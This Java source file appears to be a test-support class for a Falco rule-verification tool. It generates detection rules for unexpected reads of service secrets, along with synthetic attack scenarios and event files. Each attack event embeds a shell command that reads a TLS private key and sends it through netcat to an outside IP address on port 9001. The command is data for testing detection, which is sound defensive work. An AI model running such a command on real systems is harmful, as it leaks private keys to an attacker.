// SPDX-License-Identifier: Apache-2.0
package io.kguard.internal.verify;

import io.kguard.engine.Matching;
import io.kguard.event.FalcoVersion;
import io.kguard.internal.result.SuiteResult;
import io.kguard.internal.tool.cost.CostAnalysis;
import io.kguard.internal.tool.mutation.MutationAnalysis;
import io.kguard.output.FalcoConfig;
import io.kguard.simulation.SimulatorOptions;
import java.io.IOException;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/**
 * A suite of many rules and many scenarios over written events, in which some checks fail and some are errors. All is measured that needs
 * no play.
 */
public final class LargeSuite {
    private static final List<String> TACTICS = List.of(
            "initial-access",
            "execution",
            "persistence",
            "privilege-escalation",
            "credential-access",
            "discovery",
            "impact");

    /** Each rule has macros, a list and an exception, as rules of real life have. */
    private static final String RULE = """
            - rule: Secret of service %1$d read by an unexpected program
              desc: >
                A program other than the service's own opened the secret of service %1$d. An attacker who got into the
                container would look there first.
              condition: >
                open_read and container and fd.name startswith /srv/app%1$d/secrets/ and not proc.name in (readers)
                and not proc.cmdline contains "--health-check" and (fd.name endswith .key or fd.name endswith .pem)
                and not known_reader
              output: Secret of a service read (file=%%fd.name program=%%proc.name command=%%proc.cmdline user=%%user.name)
              priority: %2$s
              tags: [container, secrets, T1552]
              exceptions:
                - name: backup
                  fields: [proc.name, fd.name]
                  comps: [=, startswith]
                  values: [[backup, /srv/app%1$d/secrets/old]]
            """;

    private static final String VALUES = """
            falcosidekick:
              enabled: true
              config:
                slack: {webhookurl: "https://slack.example/x", channel: "#security"}
                teams: {webhookurl: "https://teams.example/x", minimumpriority: warning}
            """;

    private LargeSuite() {}

    /** Verifies it, with reports in a folder. */
    static SuiteResult verify(Path folder, int rules, int pairs) throws IOException {
        return verify(folder, rules, pairs, "");
    }

    /** Verifies the checks of it that are chosen, with reports in the folder {@code reports}. */
    public static SuiteResult verify(Path folder, int rules, int pairs, String only) throws IOException {
        StringBuilder text = new StringBuilder("""
                - macro: open_read
                  condition: evt.type in (open, openat, openat2) and evt.is_open_read = true and fd.num >= 0
                - macro: container
                  condition: container.id != host
                - macro: known_reader
                  condition: proc.name in (vault, cert-manager)
                - list: readers
                  items: [nginx, postgres, redis-server, java, node]
                """);
        for (int i = 0; i < rules; i++) {
            text.append(RULE.formatted(i, i % 3 == 0 ? "CRITICAL" : "WARNING"));
        }
        Path files = Files.createDirectories(folder.resolve("rules"));
        Path loaded = Files.writeString(files.resolve("services_rules.yaml"), text);
        for (int i = 0; i < pairs; i++) {
            scenario(folder, i, i % (rules - rules / 10));
        }
        VerifyOptions options = new VerifyOptions(
                        new RuleOptions(List.of(loaded), FalcoVersion.CURRENT, Matching.ALL, false),
                        new ScenarioOptions(
                                List.of(folder.resolve("scenarios")),
                                new URLClassLoader(new URL[0], null),
                                Choice.of(only, "", true)),
                        new PlayOptions(SimulatorOptions.configured(), 2))
                .with(FalcoConfig.read(Files.writeString(folder.resolve("values.yaml"), VALUES), FalcoVersion.CURRENT))
                .with(List.of(new CostAnalysis(), new MutationAnalysis()))
                .repeated(2);
        return new Verification(options, null, folder.resolve("reports"), line -> {}).run();
    }

    private static void scenario(Path folder, int number, int rule) throws IOException {
        String tactic = TACTICS.get(number % TACTICS.size());
        Path place = Files.createDirectories(folder.resolve("scenarios").resolve(tactic));
        boolean broken = number % 40 == 7;
        boolean damaged = number % 100 == 13;
        Files.writeString(place.resolve("secret-read-" + number + ".yaml"), """
                scenario: secret-read-%1$d
                title: A shell in the container of service %2$d reads its key and sends it away
                attack: [T%3$d, T1552.00%4$d]
                events: secret-read-%1$d.events.yaml
                fires: [{rule: Secret of service %2$d read by an unexpected program%5$s}]
                twin:
                  scenario: secret-used-%1$d
                  title: Service %2$d reads its own key when it starts
                  events: secret-used-%1$d.events.yaml
                """.formatted(
                number, rule, 1003 + number % 60, 1 + number % 8, number == 3 ? ", reaches: [slack, teams]" : ""));
        String events = """
                containers:
                  - {name: app, image: "registry.example/app%1$d:1.4", pod: app%1$d-0, namespace: shop}
                processes:
                  - {name: server, path: /usr/sbin/nginx, container: app}
                actions:
                  - server: {%2$s: [/bin/sh, -c, "cat /srv/app%1$d/secrets/tls.key | nc 203.0.113.77 9001"], as: shell}
                  - %3$s: {reads: /srv/app%1$d/secrets/tls.%4$s}
                """;
        Files.writeString(
                place.resolve("secret-read-" + number + ".events.yaml"),
                events.formatted(rule, damaged ? "spawn" : "spawns", "shell", broken ? "crt" : "key"));
        Files.writeString(
                place.resolve("secret-used-" + number + ".events.yaml"),
                events.formatted(rule, "spawns", "server", "key"));
    }
}
